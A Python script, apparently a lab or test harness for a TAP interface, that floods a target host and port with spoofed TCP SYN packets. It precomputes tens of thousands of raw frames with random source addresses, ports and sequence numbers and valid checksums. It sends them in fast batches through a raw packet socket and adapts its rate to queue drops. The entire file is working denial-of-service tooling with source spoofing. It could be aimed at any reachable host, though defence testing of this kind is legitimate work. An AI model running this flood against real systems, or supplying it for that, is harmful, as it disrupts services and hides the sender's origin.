#!/usr/bin/env python3
"""A flood of spoofed SYNs by a raw socket, as fast as the other end of a TAP takes them.

usage: flood.py INTERFACE TARGET PORT [--count N] [--seconds N]
Sources are random: addresses of 198.19.0.0/16, ports, sequence numbers. The flood goes on beyond N (200000) until it is interrupted,
and ends in any case after --seconds (60). Begins with the line 'flooding'; ends with one line of JSON: how many SYNs the link took, how
many it was too full for, and the seconds.
"""
import argparse
import array
import ctypes
import errno
import json
import pathlib
import random
import signal
import socket
import struct
import time

POOL = 65_536  # frames made beforehand
BATCH = 64  # frames a system call
FRAME = 14 + 20 + 20 + 20
# 16-bit words of the frame that are random and that the same checksum covers, so they may change places: the source port, the sequence
# number, the acknowledgment number (a SYN has none to look at), the timestamp.
WORDS = [17, 19, 20, 21, 22, 31, 32]


def ones_complement_sum(data):
    """A number's remainder modulo 2^16 - 1 is the sum of its 16-bit digits with the carries added."""
    return int.from_bytes(data, "big") % 0xffff


def make_pool(source_mac, target_mac, target, port):
    ethernet = target_mac + source_mac + b"\x08\x00"
    ip = struct.pack(">BBHHHBBH", 0x45, 0, FRAME - 14, 0, 0x4000, 64, 6, 0)
    options_a, options_b = bytes((2, 4, 5, 0xb4, 4, 2, 8, 10)), bytes((0, 0, 0, 0, 1, 3, 3, 7))
    pseudo = target + struct.pack(">HH", 6, FRAME - 34)
    fixed = struct.pack(">HBBH", port, 0xa0, 0x02, 64240)
    ip_sum = ones_complement_sum(ip + target)
    tcp_sum = ones_complement_sum(pseudo + fixed + options_a + options_b)
    pool = bytearray()
    generator = random.Random(1)
    for _ in range(POOL):
        noise = generator.randbytes(16)
        source, text = b"\xc6\x13" + noise[:2], noise[2:]
        pool += b"".join((
            ethernet, ip[:10], struct.pack(">H", 0xffff - ones_complement_sum(ip_sum.to_bytes(2, "big") + source)), source, target,
            text[:2], fixed[:2], text[2:10], fixed[2:],
            struct.pack(">HH", 0xffff - ones_complement_sum(tcp_sum.to_bytes(2, "big") + source + text), 0), options_a, text[10:14], options_b))
    assert len(pool) == POOL * FRAME
    return pool


def shuffle(pool, turn):
    """Other SYNs, without the work of new checksums."""
    words = memoryview(pool).cast("H")
    step = FRAME // 2
    one, other = WORDS[turn % len(WORDS)], WORDS[(turn * 3 + 1) % len(WORDS)]
    first, second = array.array("H", words[one::step].tobytes()), array.array("H", words[other::step].tobytes())
    words[one::step], words[other::step] = memoryview(second), memoryview(first)


class Messages:
    """The frames as sendmmsg() wants them."""

    def __init__(self, pool):
        begin = ctypes.addressof(ctypes.c_char.from_buffer(pool))
        self.vectors = bytearray(b"".join(struct.pack("QQ", begin + i * FRAME, FRAME) for i in range(POOL)))
        vector = ctypes.addressof(ctypes.c_char.from_buffer(self.vectors))
        # struct mmsghdr: name, its length, iovec, their number, control, its length, flags; and how much was sent
        self.headers = bytearray(b"".join(struct.pack("8Q", 0, 0, vector + i * 16, 1, 0, 0, 0, 0) for i in range(POOL)))
        self.address = ctypes.addressof(ctypes.c_char.from_buffer(self.headers))
        self.sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg
        self.sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]

    def send(self, descriptor, first, count):
        """How many the kernel took."""
        sent = self.sendmmsg(descriptor, self.address + first * 64, count, 0)
        if sent < 0 and ctypes.get_errno() not in (errno.ENOBUFS, errno.EAGAIN, errno.EINTR):
            raise OSError(ctypes.get_errno(), "sendmmsg")
        return max(sent, 0)


def mac_of(interface, target):
    """The target's MAC address: the kernel asks for it."""
    for _ in range(50):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            asker.sendto(b"", (target, 9))
        for line in pathlib.Path("/proc/net/arp").read_text().splitlines()[1:]:
            address, _, flags, mac, _, device = line.split()
            if (address, device) == (target, interface) and int(flags, 16) & 2:
                return bytes.fromhex(mac.replace(":", ""))
        time.sleep(0.1)
    raise SystemExit(f"{target} does not answer ARP")


class Flood:
    def __init__(self, options):
        self.options = options
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.socket.bind((options.interface, 0))
        self.pool = make_pool(self.socket.getsockname()[4], mac_of(options.interface, options.target),
                              socket.inet_aton(options.target), options.port)
        self.messages = Messages(self.pool)
        self.full = pathlib.Path(f"/sys/class/net/{options.interface}/statistics/tx_dropped")
        self.interrupted = False
        signal.signal(signal.SIGINT, self.interrupt)

    def interrupt(self, *_):
        self.interrupted = True

    def dropped(self):
        return int(self.full.read_text())

    def run(self):
        print("flooding")
        begin, before = time.monotonic(), self.dropped()
        sent = dropped = 0
        pause = 0.0
        turn = 0
        while time.monotonic() - begin < self.options.seconds:
            for first in range(0, POOL, BATCH):
                sent += self.messages.send(self.socket.fileno(), first, BATCH)
                # The queue of a TAP drops what it has no room for, an honest client's packets as well: that would test the queue.
                now = self.dropped() - before
                if now > dropped:
                    pause = min(max(pause * 2, 0.0001), 0.01)
                elif pause:
                    pause = pause * 0.9 if pause > 0.00005 else 0.0
                dropped = now
                if pause:
                    time.sleep(pause)
            if self.interrupted and sent - dropped >= self.options.count:
                break
            shuffle(self.pool, turn)
            turn += 1
        seconds = time.monotonic() - begin
        print(json.dumps({"sent": sent - dropped, "dropped": dropped, "seconds": seconds}))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("interface")
    parser.add_argument("target")
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=200_000)
    parser.add_argument("--seconds", type=float, default=60)
    Flood(parser.parse_args()).run()


main()
